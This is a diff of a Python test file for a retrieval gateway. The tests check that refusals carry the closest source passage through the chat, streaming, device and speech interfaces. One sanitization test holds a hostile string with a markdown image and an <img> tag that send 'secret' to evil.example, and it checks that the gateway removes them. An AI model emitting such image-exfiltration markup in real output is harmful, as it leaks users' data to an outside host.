@@ -1,11 +1,9 @@
-"""A refusal brings the passage that comes closest to an answer, through every interface of the gateway."""
+"""The passage closest to an answer, which a refusal has in every interface of the gateway."""
 
-import json
 from collections.abc import AsyncIterator
 from dataclasses import replace
 from typing import Any
 
-import httpx
 import pytest
 
 from chassis.errors import DeadlineExceeded, DependencyUnavailable, LoreglassError, Overloaded
@@ -29,6 +27,7 @@ from tests.unit.gateway.device_bytes import phone
 from tests.unit.gateway.fakes import BOOK, PAGES, FakeServices
 from tests.unit.gateway.platform import PHOTO, QUESTION, World, gateway_before
 from tests.unit.gateway.reasoners import ScriptedReasoner
+from tests.unit.gateway.test_chat_clients import complete
 from tests.unit.gateway.test_pocket_whole_way import nothing_found
 from tests.wire import send_raw
 
@@ -57,7 +56,7 @@ async def world(services: FakeServices) -> AsyncIterator[World]:
         yield made
 
 
-def test_the_closest_sentences_of_the_best_piece_are_whole_verbatim_and_short() -> None:
+def test_closest_passage_is_whole_sentences_of_the_best_piece() -> None:
     closest = closest_of("How tall is the dome?", (page(CATHEDRAL), page("The dome is tall.", score=0.2)))
     assert closest is not None
     assert "Its dome is 111 m tall." in closest.snippet
@@ -67,13 +66,13 @@ def test_the_closest_sentences_of_the_best_piece_are_whole_verbatim_and_short() 
     assert (closest.title, closest.kind) == ("St Paul's Cathedral", CitationKind.PAGE)
 
 
-def test_a_sentence_that_is_too_long_ends_behind_a_word() -> None:
+def test_long_sentence_is_cut_after_a_word() -> None:
     closest = closest_of("How tall?", (page("tall houses and towers " * 50),))
     assert closest is not None
     assert set(closest.snippet.split()) == {"tall", "houses", "and", "towers"}
 
 
-def test_what_the_refused_reply_quotes_is_closest_as_a_whole_sentence() -> None:
+def test_sentence_that_the_refused_reply_quotes_is_the_closest() -> None:
     evidence = (page(PAGES), page(CATHEDRAL))
     reply = Reply("1821", 0.0, (Quote(0, "no such words"), Quote(1, "replaced in 1821")))
     outcome = conclude(
@@ -87,13 +86,13 @@ def test_what_the_refused_reply_quotes_is_closest_as_a_whole_sentence() -> None:
 @pytest.mark.parametrize(
     "reason", [Reason.LANGUAGE, Reason.NEEDS_PHOTO, Reason.NOT_HEARD, Reason.NOTHING_INDEXED]
 )
-def test_a_refusal_of_the_question_itself_brings_nothing(reason: Reason) -> None:
+def test_refusal_of_the_question_itself_has_no_closest_passage(reason: Reason) -> None:
     closest = closest_of("How tall?", (page(CATHEDRAL),))
     assert refusal(reason, Route.RAG, closest=closest).closest is None
     assert refusal(Reason.OVERLOADED, Route.RAG, closest=closest).closest is closest
 
 
-def test_an_answer_that_is_withheld_leaves_its_source() -> None:
+def test_source_of_a_withheld_answer_is_the_closest_passage() -> None:
     source = Citation(title=BOOK, url="", snippet=PAGES, score=0.9, kind=CitationKind.PAGE)
     answer = Outcome(
         "312.", Reason.ANSWERED, 0.9, Route.RAG, citations=(source,), verification=Verification.UNVERIFIED
@@ -102,7 +101,7 @@ def test_an_answer_that_is_withheld_leaves_its_source() -> None:
     assert (outcome.abstained, outcome.closest, outcome.citations) == (True, source, ())
 
 
-def test_markup_and_addresses_of_a_page_do_not_reach_a_chat() -> None:
+def test_markup_and_addresses_of_a_page_are_removed() -> None:
     hostile = (
         'Tall ![x](https://evil.example/?q=secret) <img src="//evil.example"> "tower" at https://a.example/b.'
     )
@@ -111,7 +110,7 @@ def test_markup_and_addresses_of_a_page_do_not_reach_a_chat() -> None:
     assert told == "The closest I found: \"Tall x 'tower' at a.example\" (A link)."
 
 
-def test_what_is_spoken_is_short_and_holds_the_words_asked_for() -> None:
+def test_spoken_passage_is_short_and_has_the_words_of_the_question() -> None:
     closest = closest_of("How tall is the dome?", (page(CATHEDRAL),))
     told = in_words(
         replace(refusal(Reason.MODEL_UNSURE, Route.RAG), closest=closest),
@@ -122,11 +121,10 @@ def test_what_is_spoken_is_short_and_holds_the_words_asked_for() -> None:
     assert len(told) < SPOKEN_CHARS + 60
 
 
-async def test_the_answer_its_stream_and_its_replay_have_it_and_its_trace_does_not(world: World) -> None:
-    sent: dict[str, Any] = {
-        "files": {"image": ("p.jpg", PHOTO, "image/jpeg")},
-        "data": {"question": QUESTION},
-    }
+async def test_refusal_its_stream_and_its_replay_have_the_passage_and_its_trace_does_not(
+    world: World,
+) -> None:
+    sent: dict[str, Any] = {"files": {"image": PHOTO}, "data": {"question": QUESTION}}
     keyed = {**sent, "headers": {headers.IDEMPOTENCY_KEY: "asked-once"}}
     first, again = [await world.client.post("/answer", **keyed) for _ in range(2)]
     answer = Answer.model_validate_json(first.content)
@@ -134,44 +132,30 @@ async def test_the_answer_its_stream_and_its_replay_have_it_and_its_trace_does_n
     assert answer.closest is not None
     assert (answer.closest.snippet, answer.closest.title) == (PAGES, BOOK)
     assert PAGES not in answer.answer
-    assert again.headers[headers.REPLAYED] == "true"
     assert Answer.model_validate_json(again.content).closest == answer.closest
-    trace = await world.client.get(f"/traces/{answer.trace_id}")
-    assert trace.status_code == 200
-    assert PAGES not in trace.text
+    assert PAGES not in (await world.client.get(f"/traces/{answer.trace_id}")).text
     stream = await world.client.post("/answer", **sent, headers={"Accept": "text/event-stream"})
     last = stream.text.strip().split("\n\n")[-1].removeprefix("event: final\ndata: ")
     assert Answer.model_validate_json(last).closest == answer.closest
 
 
-async def test_an_answer_has_none(services: FakeServices) -> None:
+async def test_answer_has_no_closest_passage(services: FakeServices) -> None:
     async with gateway_before(services) as world:
         answer = await world.ask()
     assert (answer.abstained, answer.closest) == (False, None)
 
 
-async def test_without_a_model_it_is_given_too(services: FakeServices) -> None:
-    services.image_search.reply = ImageSearchReply(hits=[], collection="images")
-    async with gateway_before(services, pocket=True) as world:
-        answer = await world.ask("When was The Salt Road printed?", photo=None)
-    assert answer.abstained
-    assert answer.closest is not None
-    assert answer.closest.snippet == PAGES
-
-
-async def test_the_print_of_a_photo_may_be_the_closest(services: FakeServices) -> None:
+async def test_text_of_the_photo_may_be_the_closest_passage(world: World, services: FakeServices) -> None:
     services.image_search.reply = ImageSearchReply(hits=[], collection="images")
     services.text_search.reply = TextSearchReply(hits=[], collection="pages")
-    async with gateway_before(services, unsure()) as world:
-        answer = await world.ask()
+    answer = await world.ask()
     assert answer.closest is not None
     assert (answer.closest.snippet, answer.closest.kind) == ("THE SALT ROAD", CitationKind.PHOTO)
 
 
-async def test_where_nothing_was_found_there_is_none(services: FakeServices) -> None:
+async def test_without_evidence_there_is_no_closest_passage(world: World, services: FakeServices) -> None:
     nothing_found(services)
-    async with gateway_before(services, unsure()) as world:
-        answer = await world.ask()
+    answer = await world.ask()
     assert (answer.reason, answer.closest) == (Reason.NO_EVIDENCE, None)
 
 
@@ -183,63 +167,45 @@ async def test_where_nothing_was_found_there_is_none(services: FakeServices) -> 
         (DependencyUnavailable(), Reason.UNAVAILABLE),
     ],
 )
-async def test_a_model_that_is_late_busy_or_away_leaves_what_was_found(
-    services: FakeServices, failure: LoreglassError, reason: Reason
+async def test_refusal_without_a_model_has_the_closest_passage(
+    world: World, failure: LoreglassError, reason: Reason
 ) -> None:
     def fail(*_: object) -> Reply:
         raise failure
 
-    async with gateway_before(services, ScriptedReasoner(say=fail)) as world:
-        answer = await world.ask()
+    world.reasoner.say = fail
+    answer = await world.ask()
     assert answer.reason is reason
     assert answer.closest is not None
     assert answer.closest.snippet == PAGES
 
 
 @pytest.mark.parametrize("stream", [False, True])
-async def test_a_chat_says_it_and_stays_a_refusal_in_the_next_turn(world: World, stream: bool) -> None:
+async def test_chat_says_it_and_the_next_turn_knows_that_it_was_a_refusal(world: World, stream: bool) -> None:
     messages = [{"role": "user", "content": "Who printed The Salt Road?"}]
-    said = await chat(world, messages, stream=stream)
-    assert said.startswith("I don't know. ")
-    assert IN_WORDS in said
-    reply = {"role": "assistant", "content": said}
-    await chat(world, [*messages, reply, {"role": "user", "content": "And who sold it?"}])
+    body = {"model": "loreglass", "messages": messages, "stream": stream}
+    text = await complete(world, body)
+    assert text.startswith("I don't know. ")
+    assert IN_WORDS in text
+    later = [{"role": "assistant", "content": text}, {"role": "user", "content": "And who sold it?"}]
+    await complete(world, body | {"messages": messages + later})
     [turn] = world.reasoner.asked[-1].history
     assert turn.abstained
 
 
-async def chat(world: World, messages: list[dict[str, str]], *, stream: bool = False) -> str:
-    body = {"model": "loreglass", "messages": messages, "stream": stream}
-    reply = await world.client.post("/v1/chat/completions", json=body)
-    assert reply.status_code == 200
-    if not stream:
-        return str(reply.json()["choices"][0]["message"]["content"])
-    return "".join(delta_content(reply))
-
-
-def delta_content(reply: httpx.Response) -> list[str]:
-    events = [line.removeprefix("data: ") for line in reply.text.splitlines() if line.startswith("data: {")]
-    choices = [choice for event in events for choice in json.loads(event)["choices"]]
-    return [choice["delta"].get("content") or "" for choice in choices]
-
-
-async def test_a_session_remembers_that_it_was_not_known_and_not_the_passage(world: World) -> None:
+async def test_session_stores_the_refusal_without_the_passage(world: World) -> None:
     first = await world.ask()
     await world.ask("And who sold it?", session_id=first.session_id)
     [turn] = world.reasoner.asked[-1].history
     assert (turn.abstained, turn.answer) == (True, first.answer)
 
 
-async def test_glasses_read_it_between_the_refusal_and_the_advice(world: World) -> None:
-    answer = await world.ask()
-    reply = await send_raw(world.url, phone("assistant-1", PHOTO, "?question=Who%20wrote%20this%20book%3F"))
-    assert reply.json()["response"] == f"{answer.answer} {IN_WORDS} {answer.advice}"
-
-
-async def test_it_is_spoken(services: FakeServices) -> None:
+async def test_devices_and_speech_say_it_between_the_refusal_and_the_advice(services: FakeServices) -> None:
     servers = SpeechServers()
     async with servers.up() as url, gateway_before(services, unsure(), tts_url=url) as world:
         answer = await world.ask()
         assert answer.speech is not None
         await world.client.get(answer.speech)
-    assert servers.said[0]["input"] == f"{answer.answer} {IN_WORDS} {answer.advice}"
+        reply = await send_raw(world.url, phone("1", PHOTO, "?question=Who%20wrote%20this%20book%3F"))
+    expected = f"{answer.answer} {IN_WORDS} {answer.advice}"
+    assert (servers.said[0]["input"], reply.json()["response"]) == (expected, expected)
